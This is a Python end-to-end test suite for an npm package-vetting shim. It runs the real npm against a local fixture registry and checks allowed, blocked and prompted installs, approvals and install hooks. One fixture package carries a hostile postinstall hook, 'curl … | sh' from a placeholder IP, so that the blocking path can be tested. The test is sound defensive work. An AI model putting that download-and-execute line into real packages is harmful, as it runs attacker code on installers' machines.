"""pkgvet-npm end to end, with the REAL npm against the fixture registry
(tests/fixtures/registry_server.py): allowed, blocked and prompted installs
(the prompt driven through a pseudo-terminal), approvals, install-hook
markers, no-terminal behaviour, npm ci / npx / exec / workspaces / -g,
pass-through commands and bad input (issue 5, "Tests" and "Bad input").

Every scenario runs in a fresh temporary project with a private HOME/XDG
(so approvals and the pkgvet cache are the scenario's own), a private npm
cache for the whole run, and TMPDIR pointed at a private directory that is
checked for leftover pkgvet-npm work directories. Skips (77) when there is
no real npm on this machine."""
import fcntl, hashlib, json, os, pty, select, shutil, signal, struct, subprocess, sys, tempfile, termios, time
sys.path.insert(0, os.path.dirname(__file__))
from pvtest import changed, check, done, make_tgz, run_detached, run_pty, snapshot

SHIM = os.environ.get('PKGVET_NPM_SHIM') or os.path.join(os.environ.get('PKGVET_BUILD', 'build'), 'pkgvet-npm')
SHIM = os.path.abspath(SHIM)
REAL_NPM = '/usr/bin/npm' if os.path.exists('/usr/bin/npm') else shutil.which('npm')
if not REAL_NPM or not os.path.exists(SHIM):
    print(f'skip: no real npm ({REAL_NPM}) or no shim ({SHIM})')
    sys.exit(77)
REAL_NPX = os.path.join(os.path.dirname(REAL_NPM), 'npx')
FIXTURES = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'fixtures')
T0 = time.time()

# ---------------------------------------------------------------- fixtures

WORK = tempfile.mkdtemp(prefix='pvtest-npmshim-')
ROOT = os.path.join(WORK, 'registry')
NPM_CACHE = os.path.join(WORK, 'npm-cache')
TMP = os.path.join(WORK, 'tmp')  # TMPDIR of every run
os.makedirs(TMP)

README = 'A test package used by the pkgvet npm shim tests. ' * 4


def pkg(name, ver, extra=None, files=None):
    """Publish name@ver to the fixture registry (a tarball; the packument is
    built from the tarballs, with dependencies/scripts/bin copied)."""
    pj = {'name': name, 'version': ver, 'description': 'fixture', 'license': 'MIT'}
    pj.update(extra or {})
    f = {'package/package.json': json.dumps(pj, indent=2), 'package/README.md': f'# {name}\n\n{README}\n'}
    f.update({'package/' + k: v for k, v in (files or {}).items()})
    f.setdefault('package/index.js', 'module.exports = 42;\n')
    d = os.path.join(ROOT, 'npm', 'tarballs', name.replace('/', '%2f'))
    os.makedirs(d, exist_ok=True)
    make_tgz(os.path.join(d, ver + '.tgz'), f)


HOOK_JS = "require('fs').writeFileSync(process.env.PV_MARKER, 'postinstall ran\\n');\n"
pkg('zz-leaf', '1.0.0')
pkg('zz-mid', '1.0.0', {'dependencies': {'zz-leaf': '^1.0.0'}}, {'index.js': "module.exports = require('zz-leaf');\n"})
pkg('zz-hook', '1.0.0', {'scripts': {'postinstall': 'node hook.js'}}, {'hook.js': HOOK_JS})
# Hostile: its postinstall downloads a script and runs it (download-exec: block).
pkg('zz-bad', '1.0.0', {'scripts': {'postinstall': 'curl -s http://203.0.113.9/x.sh | sh'}})
pkg('zz-cli', '1.0.0', {'bin': {'zz-cli': 'cli.js'}},
    {'cli.js': "#!/usr/bin/env node\nconsole.log('hello from zz-cli' + process.argv.slice(2).map(a => ' ' + a).join(''));\n"})
pkg('zz-perm', '1.0.0', {}, {'index.js': 'module.exports = function (a, b) { return a + b; };\n'})
# 1.1.0 adds network code: a permission 1.0.0 did not have.
pkg('zz-perm', '1.1.0', {}, {'index.js': "const https = require('https');\n"
                              "module.exports = function (cb) { https.get('https://api.example.com/v1/data', cb); };\n"})
# A package whose dependency's packument will fail (faults.json).
pkg('zz-broken-dep', '1.0.0')
pkg('zz-top', '1.0.0', {'dependencies': {'zz-broken-dep': '^1.0.0'}})

srv = subprocess.Popen([sys.executable, os.path.join(FIXTURES, 'registry_server.py'), ROOT],
                       stdin=subprocess.PIPE, stdout=subprocess.PIPE)
PORT = int(srv.stdout.readline())
REG = f'http://127.0.0.1:{PORT}/npm/'

# Policies (project .pkgvet.ini). The fixture packages are brand new, so
# release-fresh asks (prompt); CLEAN lowers the metadata attributes so that
# a plain package is allowed outright, and install hooks still ask.
CLEAN = ('[attributes]\nrelease-fresh.threshold = 0\nfew-versions = allow\nno-repo = allow\n'
         'bad-email = allow\nfew-downloads = allow\n')


def deny(name):
    return f'[deny npm:{name}]\nreason = test: {name} is denied\n'


# ---------------------------------------------------------------- helpers

def new_home():
    h = tempfile.mkdtemp(prefix='home-', dir=WORK)
    for s in ('cache', 'config', 'state'):
        os.makedirs(os.path.join(h, s))
    return h


def base_env(home, extra=None):
    e = {k: v for k, v in os.environ.items()
         if not k.startswith('PKGVET_') and not k.lower().startswith('npm_config_')}
    e.update({
        'HOME': home, 'XDG_CACHE_HOME': os.path.join(home, 'cache'),
        'XDG_CONFIG_HOME': os.path.join(home, 'config'), 'XDG_STATE_HOME': os.path.join(home, 'state'),
        'NO_COLOR': '1', 'TMPDIR': TMP,
        'npm_config_cache': NPM_CACHE, 'npm_config_update_notifier': 'false',
        'npm_config_audit': 'false', 'npm_config_fund': 'false', 'npm_config_loglevel': 'warn',
        'PKGVET_REAL_NPM': REAL_NPM, 'PKGVET_REAL_NPX': REAL_NPX,
        'PKGVET_OSV_URL': 'http://127.0.0.1:1/', 'PKGVET_DNS_SERVER': 'off',
        'PKGVET_NPM_DOWNLOADS_URL': f'http://127.0.0.1:{PORT}/downloads/npm/point/last-week/{{name}}',
        'PKGVET_TIMEOUT': '20',
    })
    if extra:
        e.update(extra)
    return e


def project(policy=None, pkgjson=None, files=None):
    d = tempfile.mkdtemp(prefix='proj-', dir=WORK)
    os.makedirs(os.path.join(d, '.git'))  # the policy search stops here
    with open(os.path.join(d, 'package.json'), 'w') as f:
        f.write(json.dumps(pkgjson or {'name': 'proj', 'version': '1.0.0'}, indent=2) + '\n')
    if policy:
        with open(os.path.join(d, '.pkgvet.ini'), 'w') as f:
            f.write(policy)
    for k, v in (files or {}).items():
        p = os.path.join(d, k)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, 'w') as f:
            f.write(v)
    return d


def leftovers():
    return [n for n in os.listdir(TMP) if 'pkgvet' in n]


def shim(*args, cwd, env, argv0=None, timeout=180):
    return run_detached([argv0 or SHIM, *args], cwd, env, timeout)


def real(*args, cwd, env):
    p = subprocess.run([REAL_NPM, *args], cwd=cwd, env=env, stdin=subprocess.DEVNULL,
                       capture_output=True, timeout=120, start_new_session=True)
    return p.returncode, p.stdout.decode(errors='replace'), p.stderr.decode(errors='replace')


def shim_pty(*args, cwd, env, script=(), close_master_at=None, timeout=180):
    return run_pty([SHIM, *args], cwd, env, script, close_master_at, timeout, tmp=WORK)


def show(r):
    return f'rc {r.rc}, {r.elapsed:.1f} s; stderr: {r.err[-900:]!r}; tty: {r.tty[-700:]!r}'


def installed(d, name):
    p = os.path.join(d, 'node_modules', name, 'package.json')
    if not os.path.exists(p):
        return None
    return json.load(open(p)).get('version')


def lock(d):
    p = os.path.join(d, 'package-lock.json')
    return json.load(open(p)) if os.path.exists(p) else None


def deps(d, rel='package.json'):
    return json.load(open(os.path.join(d, rel))).get('dependencies', {})


def approvals(home):
    p = os.path.join(home, 'config', 'pkgvet', 'approvals.ini')
    return open(p).read() if os.path.exists(p) else ''


Q_ONE = 'Allow? [y]es once'
Q_END = '\u203a '  # the question ends with "› "

# ---------------------------------------------------------------- 1. allowed install
print('# 1. allowed install')
home = new_home()
env = base_env(home)
d1 = project(CLEAN)
r = shim('install', 'zz-mid', '--registry', REG, cwd=d1, env=env)
check(r.rc == 0, f'[1] allowed install: exit 0 ({show(r)})')
check('resolving' in r.err and '2 packages to add' in r.err, f'[1] the plan is announced: 2 packages to add')
check(installed(d1, 'zz-mid') == '1.0.0' and installed(d1, 'zz-leaf') == '1.0.0',
      '[1] node_modules has the package and its dependency')
check(deps(d1).get('zz-mid') == '^1.0.0', f'[1] package.json gets "zz-mid": "^1.0.0" as npm writes it ({deps(d1)})')
lk = lock(d1) or {}
pk = lk.get('packages', {})
check(lk.get('lockfileVersion') == 3 and pk.get('node_modules/zz-mid', {}).get('version') == '1.0.0'
      and pk.get('node_modules/zz-leaf', {}).get('version') == '1.0.0'
      and (pk.get('node_modules/zz-leaf', {}).get('integrity') or '').startswith('sha512-')
      and (pk.get('node_modules/zz-mid', {}).get('resolved') or '').startswith(f'http://127.0.0.1:{PORT}/npm/'),
      f'[1] package-lock.json written as npm would (v3, versions, integrity, resolved)')
check(os.path.exists(os.path.join(d1, 'node_modules', '.package-lock.json')), '[1] node_modules/.package-lock.json written')
# The same install with the real npm in a twin project: package.json and the lockfile byte-for-byte alike.
twin = project(CLEAN)
rc, _, err = real('install', 'zz-mid', '--registry', REG, cwd=twin, env=env)
same = [f for f in ('package.json', 'package-lock.json')
        if open(os.path.join(d1, f), 'rb').read() == open(os.path.join(twin, f), 'rb').read()]
check(rc == 0 and len(same) == 2, f'[1] package.json and package-lock.json are byte-for-byte what the real npm writes ({same}; {err[-200:]!r})')
check(not os.path.exists(os.path.join(d1, 'node_modules', 'zz-mid', 'node_modules')), '[1] tree laid out flat as npm does')

# `npm install` with no spec installs package.json's dependencies; --registry before the command.
# The project's own postinstall still runs, as npm would run it.
d1b = project(CLEAN, {'name': 'proj', 'version': '1.0.0', 'dependencies': {'zz-mid': '^1.0.0'},
                      'scripts': {'postinstall': "node -e \"require('fs').writeFileSync(process.env.PV_MARKER, 'x')\""}})
mk1 = os.path.join(WORK, 'marker-1b')
r = shim('--registry', REG, 'install', cwd=d1b, env=base_env(home, {'PV_MARKER': mk1}))
check(r.rc == 0 and installed(d1b, 'zz-mid') == '1.0.0' and installed(d1b, 'zz-leaf') == '1.0.0'
      and lock(d1b) is not None, f'[1] `npm --registry URL install` from package.json: installed, lockfile written ({show(r)})')
check(os.path.exists(mk1), "[1] the project's own postinstall ran")

# An alias spec saved as a dev dependency; an unknown option passed on to npm untouched.
d1c = project(CLEAN)
r = shim('install', 'myleaf@npm:zz-leaf@^1.0.0', '--save-dev', '--pv-unknown-option=1', '--registry', REG, cwd=d1c, env=env)
pj = json.load(open(os.path.join(d1c, 'package.json')))
check(r.rc == 0 and installed(d1c, 'myleaf') == '1.0.0' and pj.get('devDependencies', {}).get('myleaf') == 'npm:zz-leaf@^1.0.0'
      and 'dependencies' not in pj, f'[1] alias spec with --save-dev and an unknown option: installed under the alias, in devDependencies ({show(r)}; {pj})')
# --no-save: node_modules gets it, package.json and the lockfile stay as they were.
d1d = project(CLEAN)
before = snapshot(d1d)
r = shim('install', 'zz-leaf', '--no-save', '--registry', REG, cwd=d1d, env=env)
check(r.rc == 0 and installed(d1d, 'zz-leaf') == '1.0.0', f'[1] --no-save: installed ({show(r)})')
aft = snapshot(d1d)
check(aft.get('package.json') == before.get('package.json') and 'package-lock.json' not in aft,
      f'[1] --no-save: package.json unchanged, no lockfile written ({sorted(k for k in aft if "node_modules" not in k)})')

# ---------------------------------------------------------------- 2. blocked install
print('# 2. blocked install')
# a) a deny entry, in the project of scenario 1 (node_modules already there)
with open(os.path.join(d1, '.pkgvet.ini'), 'a') as f:
    f.write(deny('zz-cli'))
before = snapshot(d1)
r = shim('install', 'zz-cli', '--registry', REG, cwd=d1, env=env)
after = snapshot(d1)
check(r.rc == 1, f'[2a] deny entry: exit 1 ({show(r)})')
check('blocked' in r.err and 'zz-cli' in r.err, '[2a] "blocked" and the package are printed')
check('policy-deny' in r.err or 'denied' in r.err or 'deny' in r.err, '[2a] the reason (the deny entry) is shown')
check(before == after, f'[2a] package.json, lockfile, node_modules byte-for-byte unchanged (diff {changed(before, after)})')
# b) a hostile package (download-and-exec postinstall), even with noninteractive = allow and --yes
d2 = project(CLEAN)
r0 = shim('install', 'zz-leaf', '--registry', REG, cwd=d2, env=env)
check(r0.rc == 0 and installed(d2, 'zz-leaf'), f'[2b] setup: an earlier allowed install ({show(r0)})')
marker = os.path.join(WORK, 'marker-2b')
before = snapshot(d2)
r = shim('install', 'zz-bad', '--yes', '--registry', REG, cwd=d2,
         env=base_env(home, {'PKGVET_NONINTERACTIVE': 'allow', 'PV_MARKER': marker}))
after = snapshot(d2)
check(r.rc == 1, f'[2b] hostile package: exit 1 even with --yes and noninteractive=allow ({show(r)})')
check('blocked' in r.err and 'download-exec' in r.err, '[2b] "blocked" with its reason (download-exec)')
check(before == after, f'[2b] project byte-for-byte unchanged, earlier node_modules included (diff {changed(before, after)})')

# ---------------------------------------------------------------- 3. the prompt, through a pty
print('# 3. prompt through a pseudo-terminal')
home3 = new_home()
env3 = base_env(home3)
d3 = project()
before = snapshot(d3)
r = shim_pty('install', 'zz-perm@1.0.0', '--registry', REG, cwd=d3, env=env3,
             script=[(Q_END, b'd\n'), (Q_END, b'n\n')])
after = snapshot(d3)
check('digest: sha256:' in r.tty and r.tty.count(Q_ONE) == 2 and r.steps == 2,
      '[3n] [d]etails shows the full report (digest...) and asks again')
check(Q_ONE in r.tty and 'nobody can be asked' not in r.err,
      '[3n] the prompt is shown on the controlling terminal, not decided by the noninteractive setting '
      '(regression check: decide.c once took pv_prompt_open_tty() == 0 as success, but it returns the fd) '
      f'({show(r)})')
check(Q_ONE in r.tty and 'zz-perm 1.0.0' in r.tty and 'release-fresh' in r.tty,
      f'[3n] the prompt shows the package, its findings and the question on the terminal ({show(r)})')
check('[s]kip' not in r.tty, '[3n] no [s]kip choice for a package without an install hook')
check(r.rc == 1, f'[3n] answered n: exit 1 ({show(r)})')
check(before == after, f'[3n] answered n: nothing changed (diff {changed(before, after)})')
check(Q_ONE not in r.out and Q_ONE not in r.err, '[3n] the prompt goes to the terminal, not to stdout/stderr')

r = shim_pty('install', 'zz-perm@1.0.0', '--registry', REG, cwd=d3, env=env3, script=[(Q_END, b'y\n')])
check(r.rc == 0 and installed(d3, 'zz-perm') == '1.0.0', f'[3y] answered y: installed ({show(r)})')
check('zz-perm' not in approvals(home3), '[3y] "yes once" records no approval')

d3a = project()
r = shim_pty('install', 'zz-perm@1.0.0', '--registry', REG, cwd=d3a, env=env3, script=[(Q_END, b'a\n')])
ap = approvals(home3)
check(r.rc == 0 and installed(d3a, 'zz-perm') == '1.0.0', f'[3a] answered a: installed ({show(r)})')
check('zz-perm' in ap and '1.0.0' in ap, f'[3a] approval recorded in XDG_CONFIG_HOME/pkgvet/approvals.ini ({ap!r})')
logf = os.path.join(home3, 'state', 'pkgvet', 'decisions.jsonl')
log = [json.loads(l) for l in open(logf)] if os.path.exists(logf) else []
check(any(e.get('name') == 'zz-perm' and e.get('action') == 'allow' and e.get('decided_by') == 'user' for e in log)
      and any(e.get('name') == 'zz-perm' and e.get('action') == 'block' and e.get('decided_by') == 'user' for e in log),
      f'[3] the answers (n, then y/a) are in the decision log, decided_by user ({[(e.get("name"), e.get("action"), e.get("decided_by")) for e in log]})')
# The same version again, in another fresh project, with no terminal at all and noninteractive = block:
# only the approval can let it through.
d3b = project()
r = shim('install', 'zz-perm@1.0.0', '--registry', REG, cwd=d3b, env=base_env(home3, {'PKGVET_NONINTERACTIVE': 'block'}))
check(r.rc == 0 and installed(d3b, 'zz-perm') == '1.0.0', f'[3a] approved version: not asked, installed without a terminal ({show(r)})')
check(Q_ONE not in r.err + r.out and 'needs a decision' not in r.err, '[3a] no prompt text, no "needs a decision"')
# A new version that adds network code is asked again, leading with what it adds.
before = snapshot(d3a)
r = shim_pty('install', 'zz-perm@1.1.0', '--registry', REG, cwd=d3a, env=env3, script=[(Q_END, b'n\n')])
after = snapshot(d3a)
check(Q_ONE in r.tty and 'zz-perm 1.1.0' in r.tty, f'[3a] the new version IS asked again ({show(r)})')
check('NEW permissions' in r.tty and '+ network' in r.tty, '[3a] it shows "NEW permissions" and "+ network"')
check('replaces 1.0.0' in r.tty, '[3a] it says which version it replaces')
check(r.rc == 1 and before == after, f'[3a] denied upgrade: exit 1, project unchanged (diff {changed(before, after)})')
# The same new version in a fresh project (nothing installed to replace): the approval of 1.0.0 is
# what it is compared with, so it still leads with what it adds.
d3d = project()
r = shim_pty('install', 'zz-perm@1.1.0', '--registry', REG, cwd=d3d, env=env3, script=[(Q_END, b'n\n')])
check(Q_ONE in r.tty and 'NEW permissions' in r.tty and '+ network' in r.tty,
      '[3a] [BUG: judge.c sets added_perms from the approval of another version but not had_approval, and '
      'prompt.c item_is_upgrade() needs had_approval or an old version, so the prompt says "wants permissions:" '
      'without "+"] '
      f'in a fresh project too, 1.1.0 is asked with "NEW permissions" / "+ network" against the approved 1.0.0 ({show(r)})')
# Without a terminal the upgrade is not covered by the old approval.
r = shim('install', 'zz-perm@1.1.0', '--registry', REG, cwd=d3a, env=base_env(home3, {'PKGVET_NONINTERACTIVE': 'block'}))
check(r.rc == 1 and installed(d3a, 'zz-perm') == '1.0.0', f'[3a] the old approval does not cover the upgrade ({show(r)})')
# Several packages: the review-all question.
d3c = project()
r = shim_pty('install', 'zz-perm@1.0.0', 'zz-cli', '--registry', REG, cwd=d3c, env=base_env(new_home()),
             script=[(Q_END, b'y\n')])
check('Review each [r]' in r.tty and 'allow all once [y]' in r.tty and 'deny all [n]' in r.tty,
      f'[3m] several packages: "Review each [r] · allow all once [y] · deny all [n]" ({show(r)})')
check(r.rc == 0 and installed(d3c, 'zz-perm') and installed(d3c, 'zz-cli'), '[3m] allow all once: both installed')
d3e = project()
before = snapshot(d3e)
r = shim_pty('install', 'zz-perm@1.0.0', 'zz-cli', '--registry', REG, cwd=d3e, env=base_env(new_home()),
             script=[(Q_END, b'r\n'), (Q_END, b'y\n'), (Q_END, b'n\n')])
check(r.steps == 3 and 'package 1 of 2' in r.tty and 'package 2 of 2' in r.tty,
      f'[3m] [r]eview each: asked package by package ({show(r)})')
check(r.rc == 1 and before == snapshot(d3e), '[3m] one of them denied: the whole command is refused, nothing changed')

# ---------------------------------------------------------------- 4. install hook marker
print('# 4. install hook marker')


def hook_case(tag, answer=None, extra_env=None, tty=True):
    h = new_home()
    mk = os.path.join(WORK, f'marker-{tag}')
    e = base_env(h, {'PV_MARKER': mk, **(extra_env or {})})
    d = project(CLEAN)
    before = snapshot(d)
    if tty:
        r = shim_pty('install', 'zz-hook', 'zz-mid', '--registry', REG, cwd=d, env=e, script=[(Q_END, answer)])
    else:
        r = shim('install', 'zz-hook', 'zz-mid', '--registry', REG, cwd=d, env=e)
    return d, r, os.path.exists(mk), before, snapshot(d)


d, r, mk, before, after = hook_case('deny', b'n\n')
check('[s]kip its install scripts' in r.tty and 'install-hook' in r.tty and 'postinstall: node hook.js' in r.tty,
      f'[4n] hook package: the question offers [s]kip, the hook command is shown ({show(r)})')
check(r.rc == 1 and not mk and before == after, f'[4n] denied: exit 1, marker absent, nothing changed ({show(r)})')
d, r, mk, before, after = hook_case('skip', b's\n')
check(r.rc == 0 and installed(d, 'zz-hook') == '1.0.0' and installed(d, 'zz-mid') and installed(d, 'zz-leaf'),
      f'[4s] [s]kip: the package and the rest are installed ({show(r)})')
check(not mk, '[4s] [s]kip: the marker is absent (its postinstall did not run)')
d, r, mk, before, after = hook_case('yes', b'y\n')
check(r.rc == 0 and installed(d, 'zz-hook') == '1.0.0', f'[4y] approved: installed ({show(r)})')
check(mk, f'[4y] approved: the marker is present (postinstall ran) ({show(r)})')
d, r, mk, before, after = hook_case('nonint', extra_env={'PKGVET_NONINTERACTIVE': 'allow'}, tty=False)
check(r.rc == 0 and installed(d, 'zz-hook') == '1.0.0' and mk, f'[4a] noninteractive=allow, no tty: installed, marker present ({show(r)})')
# The person's own --ignore-scripts wins even for an approved hook.
d, r, mk, before, after = hook_case('ign', extra_env={'PKGVET_NONINTERACTIVE': 'allow', 'npm_config_ignore_scripts': 'true'}, tty=False)
check(r.rc == 0 and installed(d, 'zz-hook'), f'[4i] npm_config_ignore_scripts=true: installed ({show(r)})')
check(not mk, '[4i] [BUG: the shim runs `npm rebuild --ignore-scripts=false`, overriding the ignore-scripts=true '
      'the person configured (env / .npmrc); only a literal --ignore-scripts on the command line is honoured] '
      'npm_config_ignore_scripts=true: marker absent, as with the real npm')

# ---------------------------------------------------------------- 5. no terminal
print('# 5. no terminal')
home5 = new_home()
d5 = project()
before = snapshot(d5)
# The registry through the environment this time (NPM_CONFIG_REGISTRY).
r = shim('install', 'zz-leaf', cwd=d5, env=base_env(home5, {'NPM_CONFIG_REGISTRY': REG}))
after = snapshot(d5)
check(r.rc == 1 and 'noninteractive' in r.err and 'zz-leaf' in r.err,
      f'[5] no tty, noninteractive=block (default): refused with the reason ({show(r)})')
check(before == after, f'[5] nothing changed (diff {changed(before, after)})')
r = shim('i', 'zz-leaf', cwd=d5, env=base_env(home5, {'NPM_CONFIG_REGISTRY': REG, 'PKGVET_YES': '1'}))
check(r.rc == 0 and installed(d5, 'zz-leaf') == '1.0.0', f'[5] PKGVET_YES=1 (`npm i`): allowed ({show(r)})')
check('--yes' in r.err, '[5] it says --yes allowed the package')
d5b = project()
r = shim('add', '--yes', 'zz-leaf', cwd=d5b, env=base_env(home5, {'NPM_CONFIG_REGISTRY': REG}))
check(r.rc == 0 and installed(d5b, 'zz-leaf') == '1.0.0', f'[5] --yes (`npm add`): allowed ({show(r)})')
d5c = project('[settings]\nallow_yes = no\n')
before = snapshot(d5c)
r = shim('install', '--yes', 'zz-leaf', cwd=d5c, env=base_env(home5, {'NPM_CONFIG_REGISTRY': REG}))
after = snapshot(d5c)
check(r.rc == 1 and before == after, f'[5] allow_yes = no (project): --yes refused, nothing changed ({show(r)})')
check('allow_yes' in r.err or 'noninteractive' in r.err, f'[5] allow_yes = no: the refusal says why')
# (--yes against a block: scenario 2b.) An organisation lock of allow_yes needs
# /etc/pkgvet/policy.ini, which a test may not write: not covered here.
print('skip: [5] allow_yes locked by the organisation policy (would need to write /etc/pkgvet)')

# ---------------------------------------------------------------- 6. ci, npx/exec, workspaces, -g
print('# 6. ci, npx, exec, workspaces, global')
home6 = new_home()
env6 = base_env(home6)
# npm ci of a full lockfile; the registry from the project's .npmrc.
d6 = project(CLEAN, files={'.npmrc': f'registry={REG}\n'})
r = shim('install', 'zz-mid', 'zz-cli', cwd=d6, env=env6)
check(r.rc == 0 and installed(d6, 'zz-mid'), f'[6ci] setup install with the registry from .npmrc ({show(r)})')
shutil.rmtree(os.path.join(d6, 'node_modules'))
before = {k: v for k, v in snapshot(d6).items()}
r = shim('ci', cwd=d6, env=env6)
check(r.rc == 0, f'[6ci] npm ci: exit 0 ({show(r)})')
check('3 packages to add' in r.err, f'[6ci] every lockfile entry is vetted (3 packages to add)')
check(installed(d6, 'zz-mid') == '1.0.0' and installed(d6, 'zz-leaf') == '1.0.0' and installed(d6, 'zz-cli') == '1.0.0',
      '[6ci] every lockfile entry installed')
aft = snapshot(d6)
check(all(aft.get(k) == v for k, v in before.items()), '[6ci] npm ci leaves package.json and the lockfile as they were')
# npm ci with a lockfile entry that is denied: nothing installed.
with open(os.path.join(d6, '.pkgvet.ini'), 'a') as f:
    f.write(deny('zz-cli'))
shutil.rmtree(os.path.join(d6, 'node_modules'))
before = snapshot(d6)
r = shim('ci', cwd=d6, env=env6)
check(r.rc == 1 and before == snapshot(d6) and 'blocked' in r.err, f'[6ci] npm ci with a denied entry: refused, unchanged ({show(r)})')

# npx through a symlink named npx on PATH, and pkgvet-npm exec.
bindir = tempfile.mkdtemp(prefix='bin-', dir=WORK)
os.symlink(SHIM, os.path.join(bindir, 'npx'))
d6x = project(CLEAN)
ex = base_env(home6, {'PATH': bindir + ':' + os.environ.get('PATH', '/usr/bin:/bin')})
r = subprocess.run(['npx', '--registry', REG, 'zz-cli', 'one', 'two'], cwd=d6x, env=ex, capture_output=True,
                   stdin=subprocess.DEVNULL, start_new_session=True, timeout=120)
out6 = r.stdout.decode(errors='replace')
check(r.returncode == 0 and 'hello from zz-cli one two' in out6 and b'resolving' in r.stderr,
      f'[6x] `npx zz-cli one two` (npx = a symlink to the shim on PATH): vetted, runs, prints its output '
      f'({r.returncode}, out {out6!r}, err {r.stderr[-300:]!r})')
check(out6 == 'hello from zz-cli one two\n',
      f'[6x] [BUG: the hand-off npm install prints "added 1 package in …" on stdout, so `npx tool > file` gets it too] '
      f"npx's stdout is the command's output only ({out6!r})")
check(not os.path.exists(os.path.join(d6x, 'node_modules')) and deps(d6x) == {}, '[6x] npx does not touch the project')
r = shim('exec', '--registry', REG, '--', 'zz-cli', 'four', cwd=d6x, env=env6)
check(r.rc == 0 and 'hello from zz-cli four' in r.out, f'[6x] pkgvet-npm exec -- zz-cli four ({show(r)}; out {r.out!r})')
r = shim('exec', '--package=zz-cli', '--registry', REG, '-c', 'zz-cli via-call; exit 5', cwd=d6x, env=env6)
check(r.rc == 5 and 'hello from zz-cli via-call' in r.out, f"[6x] exec -c: the command runs, its exit status is returned ({show(r)}; out {r.out!r})")
# npx of a denied package runs nothing.
d6y = project(CLEAN + deny('zz-cli'))
r = shim('--registry', REG, 'zz-cli', cwd=d6y, env=ex, argv0=os.path.join(bindir, 'npx'))
check(r.rc == 1 and 'hello from zz-cli' not in r.out and 'blocked' in r.err, f'[6x] npx of a denied package: refused, nothing runs ({show(r)})')

# workspaces
d6w = project(CLEAN, {'name': 'root', 'version': '1.0.0', 'private': True, 'workspaces': ['packages/*']},
              files={'packages/pkg-a/package.json': json.dumps({'name': 'pkg-a', 'version': '1.0.0'}, indent=2) + '\n',
                     'packages/pkg-b/package.json': json.dumps({'name': 'pkg-b', 'version': '1.0.0'}, indent=2) + '\n'})
before = snapshot(d6w)
r = shim('install', 'zz-mid', '-w', 'pkg-a', '--registry', REG, cwd=d6w, env=env6)
check(r.rc == 0 and 'url-dependency' not in r.err,
      '[6w] [BUG: the workspace members themselves (link / local entries of the lockfile) are vetted as '
      'url-dependency and need a decision, so a workspaces project never installs with noninteractive = block] '
      f'install -w pkg-a with registry packages allowed: exit 0 ({show(r)})')
if r.rc != 0:
    check(before == snapshot(d6w), '[6w] refused: nothing changed')
    r = shim('install', 'zz-mid', '-w', 'pkg-a', '--registry', REG, cwd=d6w,
             env=base_env(home6, {'PKGVET_NONINTERACTIVE': 'allow'}))
    check(r.rc == 0, f'[6w] install -w pkg-a with noninteractive = allow: exit 0 ({show(r)})')
check(deps(d6w, 'packages/pkg-a/package.json').get('zz-mid') == '^1.0.0', '[6w] the workspace package.json gets its dependency')
check(deps(d6w, 'packages/pkg-b/package.json') == {} and deps(d6w) == {}, '[6w] the other workspace and the root are untouched')
check(installed(d6w, 'zz-mid') == '1.0.0' and installed(d6w, 'zz-leaf') == '1.0.0'
      and os.path.islink(os.path.join(d6w, 'node_modules', 'pkg-a')), '[6w] node_modules has the dep (hoisted) and the workspace link')

# npm update: the changed entry is vetted as a change ("replaces"), then installed.
d6u = project(CLEAN)
# zz-perm 1.0.0 in the lockfile and node_modules (the real npm), range ^1.0.0; then update through the shim.
rc, _, err = real('install', 'zz-perm@1.0.0', '--save-exact=false', '--registry', REG, cwd=d6u, env=env6)
pj = json.load(open(os.path.join(d6u, 'package.json')))
pj['dependencies']['zz-perm'] = '^1.0.0'
with open(os.path.join(d6u, 'package.json'), 'w') as f:
    json.dump(pj, f)
check(rc == 0 and installed(d6u, 'zz-perm') == '1.0.0', f'[6u] setup: zz-perm 1.0.0 installed, range ^1.0.0 ({err[-200:]!r})')
r = shim('update', '--registry', REG, cwd=d6u, env=base_env(home6, {'PKGVET_NONINTERACTIVE': 'allow'}))
check(r.rc == 0 and '0 packages to add, 1 to change' in r.err and installed(d6u, 'zz-perm') == '1.1.0',
      f'[6u] npm update: 1 to change, vetted, 1.1.0 installed ({show(r)})')

# global install into a temporary prefix
prefix = tempfile.mkdtemp(prefix='prefix-', dir=WORK)
d6g = project(CLEAN)
r = shim('install', '-g', 'zz-cli', '--registry', REG, cwd=d6g, env=base_env(home6, {'npm_config_prefix': prefix}))
check(r.rc == 0 and os.path.exists(os.path.join(prefix, 'lib', 'node_modules', 'zz-cli', 'package.json')),
      f'[6g] install -g: the package lands in PREFIX/lib/node_modules ({show(r)})')
check(os.path.exists(os.path.join(prefix, 'bin', 'zz-cli')), '[6g] its bin is linked in PREFIX/bin')
check(not os.path.exists(os.path.join(d6g, 'node_modules')) and deps(d6g) == {}, '[6g] the current project is untouched')

# ---------------------------------------------------------------- 7. pass-through
print('# 7. pass-through')
d7 = project(pkgjson={'name': 'proj', 'version': '1.0.0', 'scripts': {'hello': 'echo hello from the project script'}},
             files={'.npmrc': f'registry={REG}\n'})
env7 = base_env(new_home())
for args in (['--version'], ['run', 'hello'], ['config', 'get', 'registry'], ['frobnicate-xyz']):
    r = shim(*args, cwd=d7, env=env7)
    rc, out, err = real(*args, cwd=d7, env=env7)
    check(r.rc == rc and r.out == out, f'[7] pkgvet-npm {" ".join(args)}: same stdout and status as npm (rc {r.rc}/{rc}; {r.out[:120]!r} vs {out[:120]!r})')
check(leftovers() == [], '[7] pass-through leaves nothing in TMPDIR')
r = shim('run', 'hello', cwd=d7, env=env7)
check('hello from the project script' in r.out, "[7] run hello runs the project's script")
r = shim('config', 'get', 'registry', cwd=d7, env=env7)
check(r.out.strip() == REG, f'[7] config get registry prints the .npmrc registry ({r.out!r})')

# ---------------------------------------------------------------- 8. bad input
print('# 8. bad input')
env8 = base_env(new_home(), {'PKGVET_NONINTERACTIVE': 'allow'})
d8 = project(CLEAN)
with open(os.path.join(d8, 'package.json'), 'w') as f:
    f.write('{"name": "proj", "version": "1.0.0",,, oops\n')
before = snapshot(d8)
r = shim('install', 'zz-leaf', '--registry', REG, cwd=d8, env=env8)
check(r.rc != 0 and 'package.json' in r.err and 'nothing was installed' in r.err,
      f'[8] package.json not valid JSON: clear message naming it ({show(r)})')
check(before == snapshot(d8), '[8] package.json not valid JSON: nothing changed')

d8 = project(CLEAN)
with open(os.path.join(d8, 'package-lock.json'), 'w') as f:
    f.write('this is not a lockfile \x00\x01 {{{\n')
before = snapshot(d8)
r = shim('install', 'zz-leaf', '--registry', REG, cwd=d8, env=env8)
